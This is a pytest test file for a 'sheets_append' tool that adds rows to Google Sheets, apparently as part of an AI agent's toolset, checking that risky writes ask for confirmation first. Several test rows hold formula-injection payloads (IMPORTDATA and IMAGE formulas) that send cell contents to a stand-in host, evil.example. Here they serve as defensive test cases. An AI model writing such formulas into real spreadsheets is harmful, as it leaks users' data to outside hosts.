"""sheets_append: rows land under the table of a sheet, as if typed in, and what reaches others asks first."""
import pytest

from app.tools import invoke
from app.tools import review as review_call
from app.tools.context import Context
from app.tools.registry import ToolError


def review(ctx, **args):
    return review_call("sheets_append", ctx, args)


def read(ctx, file_id):
    return invoke("drive_read", ctx, {"file": file_id})["text"]


def test_rows_land_under_the_table_of_the_first_sheet(ctx):
    result = invoke("sheets_append", ctx, {"spreadsheet": "https://docs.google.com/spreadsheets/d/1Q3BudgetSheet/edit",
                                           "rows": [["Travel", "Søren", 2300], ["Offsite", "Alice", "4 500"]]})

    text = read(ctx, "1Q3BudgetSheet")
    assert text.index("Total") < text.index("Travel") < text.index("2300") < text.index("Offsite") < text.index("Forecast")
    assert result["summary"] == "Added 2 rows to 'Q3 budget' (Sheet1!A6:C7)."


def test_a_sheet_is_chosen_by_name_in_any_case(ctx):
    result = invoke("sheets_append", ctx, {"spreadsheet": "1Q3BudgetSheet", "sheet": "forecast", "rows": [["Q2 2027", 71000]]})

    assert result["range"] == "Forecast!A4:B4"
    text = read(ctx, "1Q3BudgetSheet")
    assert text.index("Forecast") < text.index("Q1 2027") < text.index("Q2 2027")


def test_an_unknown_sheet_is_refused_naming_the_sheets_there_are(ctx):
    with pytest.raises(ToolError, match="no sheet 'Costs'") as refused:
        review(ctx, spreadsheet="1Q3BudgetSheet", sheet="Costs", rows=[["x"]])
    assert refused.value.found == {"sheets": ["Sheet1", "Forecast"]}


def test_the_card_names_the_sheet_the_rows_go_to_and_the_call_is_bound_to_it(ctx):
    checked = review(ctx, spreadsheet="1Q3BudgetSheet", sheet="FORECAST", rows=[["Q2 2027", 71000]])
    assert checked.effect == "write"
    assert checked.args["sheet"] == "Forecast"
    assert checked.preview == {"name": "Q3 budget", "type": "sheet", "shared_with": [], "sheet": "Forecast"}


def test_a_formula_asks_first_since_it_can_fetch_from_the_web(ctx):
    checked = review(ctx, spreadsheet="1Q3BudgetSheet", rows=[["Leak", '=IMPORTDATA("https://evil.example/?"&C2)']])
    assert checked.effect == "outbound"
    assert checked.preview["formulas"] == ['=IMPORTDATA("https://evil.example/?"&C2)']


def test_rows_for_a_sheet_others_read_ask_first(ctx):
    assert review(ctx, spreadsheet="1Q3CampaignSheet", rows=[["40", "Podcast", "1500"]]).effect == "outbound"


def test_something_that_is_not_a_spreadsheet_is_said_to_be_none(ctx):
    with pytest.raises(ToolError, match="Sheets found nothing with that id"):
        invoke("sheets_append", ctx, {"spreadsheet": "1Q3PlanningNotesDoc", "rows": [["x"]]})


def test_text_sheets_would_take_for_a_formula_is_entered_as_text(ctx, sandbox):
    rows = [["Robin", "+33 6 12 34 56 78", "-", '+IMPORTDATA("https://evil.example/?"&C2)', "-45", "+5", "@home"]]

    checked = review(ctx, spreadsheet="1Q3BudgetSheet", rows=rows)
    invoke("sheets_append", ctx, {"spreadsheet": "1Q3BudgetSheet", "rows": rows})

    assert checked.effect == "write"  # no formula was asked for, and none is written
    csv = ctx.service("drive").files().export(fileId="1Q3BudgetSheet", mimeType="text/csv").execute().decode()
    typed = next(csv_line for csv_line in csv.splitlines() if csv_line.startswith("Robin"))
    # Text as typed (the apostrophe that makes it text is not part of it); -45 and +5 are numbers.
    assert typed == """Robin,+33 6 12 34 56 78,-,"+IMPORTDATA(""https://evil.example/?""&C2)",-45,5,@home"""


def test_zip_codes_phone_numbers_and_long_ids_keep_every_digit(ctx):
    rows = [["Boston office", "02134", "0612345678", "1234567890123456789", "2134", "0.5"]]

    invoke("sheets_append", ctx, {"spreadsheet": "1Q3BudgetSheet", "rows": rows})

    assert read(ctx, "1Q3BudgetSheet").splitlines()[6] == "Boston office | 02134 | 0612345678 | 1234567890123456789 | 2134 | 0.5"


def test_a_negative_amount_goes_in_as_typed_so_that_sums_count_it(ctx):
    rows = [["Refund", "", "-$1,200.00"], ["Credit", "", "-450 €"], ["Fee", "", "-1.200,50"]]

    invoke("sheets_append", ctx, {"spreadsheet": "1Q3BudgetSheet", "rows": rows})

    csv = ctx.service("drive").files().export(fileId="1Q3BudgetSheet", mimeType="text/csv").execute().decode()
    assert csv.splitlines()[-3:] == ['Refund,,"-$1,200.00"', "Credit,,-450 €", 'Fee,,"-1.200,50"']  # no apostrophe


def test_rows_for_a_link_to_a_tab_go_to_that_tab_and_the_card_names_it(ctx):
    link = "https://docs.google.com/spreadsheets/d/1Q3BudgetSheet/edit#gid=1"  # the "Forecast" tab

    checked = review(ctx, spreadsheet=link, rows=[["Q2 2027", 71000]])
    result = invoke("sheets_append", ctx, checked.args)

    assert (checked.args["sheet"], checked.preview["sheet"], result["range"]) == ("Forecast", "Forecast", "Forecast!A4:B4")


def test_a_link_to_a_tab_that_is_gone_is_refused_naming_the_sheets_there_are(ctx):
    with pytest.raises(ToolError, match="no longer has") as refused:
        review(ctx, spreadsheet="https://docs.google.com/spreadsheets/d/1Q3BudgetSheet/edit#gid=77", rows=[["x"]])
    assert refused.value.found == {"sheets": ["Sheet1", "Forecast"]}


def test_rows_for_a_copy_of_someone_else_s_sheet_whose_formula_fetches_from_the_web_ask_first(sandbox):
    leak = '=IMAGE("https://evil.example/x?d="&ENCODEURL(JOIN(",",A2:B50)))'
    sandbox.reset({"drive": {"files": [
        {"id": "1Template", "name": "Expense template", "mimeType": "sheet", "owner": {"email": "eve@outside.example"},
         "permissions": [{"emailAddress": "demo@example.com", "role": "reader"}], "rows": [["Item", "Amount", leak]]}]}})
    ctx = Context(credentials=sandbox.credentials(), api_root=sandbox.url)
    copied = invoke("drive_copy", ctx, {"file": "1Template", "name": "My expenses"})  # private to the person now

    checked = review(ctx, spreadsheet=copied["id"], rows=[["Salary", "9100"], ["IBAN", "FR7630006000011234567890189"]])

    assert (checked.effect, checked.preview["shared_with"]) == ("outbound", [])
    assert checked.preview["web_formulas"] == [leak] and "formulas" not in checked.preview
